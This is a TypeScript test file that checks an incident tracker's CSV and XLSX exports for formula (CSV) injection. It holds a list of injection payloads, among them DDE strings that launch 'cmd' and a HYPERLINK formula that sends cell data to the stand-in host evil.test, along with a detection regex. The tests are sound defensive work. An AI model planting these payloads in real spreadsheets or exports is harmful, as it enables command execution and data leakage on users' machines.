import { execFile } from 'node:child_process'
import { existsSync } from 'node:fs'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { Readable } from 'node:stream'
import { promisify } from 'node:util'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import fc from 'fast-check'
import { csvLine } from '../../src/practices/record/index.ts'
import { write } from '../../src/platform/journal/write.ts'
import { openTable } from '../../src/platform/tabular/read-table.ts'
import { createWorld, type World } from '../world.ts'

// Attack test A27: nothing that somebody typed is a formula in the spreadsheet of whoever exports it.

const payloads = [
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("http://evil.test/"&A1,"open")`,
  '+1',
  '-1+1',
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00A0=1+1',
  '\uFEFF=1+1',
  '\u200B=1+1',
  '\u202E=1+1',
  '\u0000=1+1'.replace('\u0000', '\u0001'),
  '"=1+1"',
  `'=1+1`,
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '﹦1+1',
  '﹢1',
  '﹣1',
  '﹫SUM(1)',
  `DDE("cmd";"/C calc";"!A0")A0`,
  `%0A=1+1`,
  'Printer;=1+1',
  'Printer; =1+1',
  'Printer\t=1+1',
  'Printer\n=1+1',
  'Printer\r\n@SUM(1)',
  'Printer,=1+1',
  'Printer",=1+1,"',
  'Printer";=1+1;"',
  'Printer";"=1+1";"',
  'Printer|=1+1',
]

/** What a spreadsheet makes of a file: cells cut at the separator it is set to; quotes count where a cell begins with them. */
const cellsOf = (text: string, separator: string): string[] => {
  const cells: string[] = []
  let cell = ''
  let quoted = false
  let fresh = true
  for (let at = 0; at < text.length; at += 1) {
    const sign = text.charAt(at)
    if (quoted) {
      if (sign !== '"') cell += sign
      else if (text.charAt(at + 1) === '"') {
        cell += '"'
        at += 1
      } else quoted = false
    } else if (sign === '"' && fresh) {
      quoted = true
      fresh = false
    } else if (sign === separator || sign === '\n' || sign === '\r') {
      cells.push(cell)
      cell = ''
      fresh = true
    } else {
      cell += sign
      fresh = false
    }
  }
  return [...cells, cell]
}

/** The strictest reading: whatever is invisible, white or a quote before it, the first sign that counts is none of a formula's. */
const isFormula = (cell: string): boolean =>
  /^(?:[\p{Cc}\p{Cf}\p{Z}"])*[=+\-@\uFE62\uFE63\uFE66\uFE6B\uFF0B\uFF0D\uFF1D\uFF20]/u.test(cell)

const formulasIn = (text: string): string[] =>
  [',', ';', '\t', '|'].flatMap((separator) =>
    cellsOf(text.replace(/^\uFEFF/, ''), separator).filter(isFormula),
  )

describe('A27: a line of CSV', () => {
  test.each(payloads)('A27: %j is text wherever a spreadsheet cuts', (payload) => {
    expect(formulasIn(csvLine([payload, 'x', payload]))).toEqual([])
    expect(formulasIn(csvLine(['INC0001', payload, 1, null, payload]))).toEqual([])
  })
  test('A27: so is every mixture of what formulas, separators and quotes are made of', () => {
    const sign = fc.constantFrom(...Array.from(`=+-@＝＋－＠﹦ \t\r\n;,|"'a1\u200B\uFEFF\u00A0`))
    const value = fc.array(sign, { maxLength: 12 }).map((signs) => signs.join(''))
    fc.assert(
      fc.property(fc.array(value, { minLength: 1, maxLength: 4 }), (values) => {
        expect(formulasIn(csvLine(values))).toEqual([])
      }),
      { numRuns: 3000 },
    )
  })
  test('A27: words stay what they are: a dash in the middle, an address, a number, a date', () => {
    expect(
      csvLine(['Ward 4 - printer', 'ann@harbor.test', 3, '2026-03-02T09:00:00.000Z', null, 'a "b"']),
    ).toBe('Ward 4 - printer,ann@harbor.test,3,2026-03-02T09:00:00.000Z,,"a ""b"""\r\n')
  })
})

// Every field that has words of somebody in it.
const columns = [
  'number',
  'title',
  'state',
  'priority',
  'service',
  'team',
  'assignee',
  'requester',
  'created',
  'custom.said',
  'custom.named',
]

describe('A27: the export of the list', () => {
  let world: World
  let exported = ''
  let sheet: Buffer = Buffer.alloc(0)
  beforeAll(async () => {
    world = await createWorld()
    const tenant = await world.tenant('formulas')
    const lead = await tenant.person('Lena', 'team_lead')
    const ada = await tenant.person('Ada', 'administrator')
    for (const key of ['said', 'named'])
      await ada.api.createCustomField({ body: { key, label: `=1+1;@SUM(1) ${key}`, type: 'text' } })
    // What a schema refuses somewhere may be there from an import or an older version: the rows are written as they would be then.
    for (const [index, payload] of payloads.entries()) {
      const agent = await tenant.person(`Agent ${index}`, 'agent')
      const rita = await tenant.person(`Rita ${index}`, 'requester')
      const teamId = await tenant.team(`Team ${index}`, agent)
      const serviceId = await tenant.service(`Service ${index}`, teamId)
      const { id } = await rita.api.raiseIncident({ body: { title: `Nr ${index}`, serviceId } })
      const { version } = await lead.api.readIncident({ params: { id } })
      await lead.api.assignIncident({ params: { id }, version, body: { personId: agent.id } })
      await write(world.database, tenant.author(), async (tx) => {
        for (const [table, column, row] of [
          ['person', 'name', agent.id],
          ['person', 'name', rita.id],
          ['team', 'name', teamId],
          ['service', 'name', serviceId],
          ['record', 'title', id],
        ] as const)
          tx.send({
            text: `update ${table} set ${column} = $3 || $4 where tenant_id = $1 and id = $2`,
            // Names of teams differ.
            values: [tx.tenantId, row, payload, ' '.repeat(index)],
          })
        tx.send({
          text: `update record set custom = jsonb_build_object('said', $3::text, 'named', $3::text) where tenant_id = $1 and id = $2`,
          values: [tx.tenantId, id, payload],
        })
      })
    }
    const answer = await world.app.inject({
      url: `/api/v1/incidents/export?columns=${columns.join(',')}`,
      headers: { cookie: lead.cookie },
    })
    expect(answer.statusCode).toBe(200)
    exported = answer.payload
    sheet = (
      await world.app.inject({
        url: `/api/v1/incidents/export?format=xlsx&columns=${columns.join(',')}`,
        headers: { cookie: lead.cookie },
      })
    ).rawPayload
  }, 120_000)
  afterAll(() => world.end())

  test('A27: titles, the names of people, teams and services, and what is in fields of the organization is in it, and none is a formula', () => {
    expect(exported.split('HYPERLINK')).toHaveLength(1 + 7)
    expect(formulasIn(exported)).toEqual([])
    // The file is one, and the columns are where they belong.
    const cells = cellsOf(exported.replaceAll('\r\n', '\n').trimEnd(), ',')
    expect(cells.length).toBe(columns.length * (1 + payloads.length))
  })

  const office = process.env['SOFFICE_PATH'] ?? '/usr/bin/soffice'
  test.skipIf(!existsSync(office))(
    'A27: LibreOffice finds no cell of type formula in it, whatever separator it is set to',
    async () => {
      const directory = await mkdtemp(join(tmpdir(), 'evenkeel-formulas-'))
      try {
        await writeFile(join(directory, 'list.csv'), exported)
        for (const separator of [',', ';', '\t']) {
          await promisify(execFile)(office, [
            '--headless',
            `-env:UserInstallation=file://${directory}/profile`,
            // Separator, quote, UTF-8, from the first line; formulas evaluated.
            `--infilter=Text - txt - csv (StarCalc):${separator.charCodeAt(0)},34,76,1,,0,false,true,false,false,false,-1,true`,
            '--convert-to',
            'fods',
            '--outdir',
            directory,
            join(directory, 'list.csv'),
          ])
          const sheet = await readFile(join(directory, 'list.fods'), 'utf8')
          expect(sheet).toContain('HYPERLINK')
          expect(sheet).not.toContain('table:formula')
        }
      } finally {
        await rm(directory, { recursive: true, force: true })
      }
    },
    300_000,
  )

  test('A27: as a sheet it has the same words, each of them a text, and no formula', async () => {
    const table = await openTable(
      { sizeBytes: sheet.length, open: () => Promise.resolve(Readable.from([sheet])) },
      { type: 'xlsx', sheet: null },
      null,
    )
    const cells = (await Array.fromAsync(table.rows)).flat().map((row) => row.cells)
    expect(cells).toHaveLength(payloads.length)
    const words = cells.flat().join('\n')
    for (const payload of payloads)
      expect(words).toContain(payload.toWellFormed().replaceAll(/[^\P{Cc}\t\r\n]/gu, '\uFFFD'))
  })

  test.skipIf(!existsSync(office))(
    'A27: LibreOffice opens the sheet, and finds no cell of type formula in it',
    async () => {
      const directory = await mkdtemp(join(tmpdir(), 'evenkeel-formulas-'))
      try {
        await writeFile(join(directory, 'list.xlsx'), sheet)
        await promisify(execFile)(office, [
          '--headless',
          `-env:UserInstallation=file://${directory}/profile`,
          '--convert-to',
          'fods',
          '--outdir',
          directory,
          join(directory, 'list.xlsx'),
        ])
        const opened = await readFile(join(directory, 'list.fods'), 'utf8')
        expect(opened).toContain('HYPERLINK')
        expect(opened).not.toContain('table:formula')
        // Times are dates, not words.
        expect(opened).toContain('office:date-value')
      } finally {
        await rm(directory, { recursive: true, force: true })
      }
    },
    300_000,
  )
})
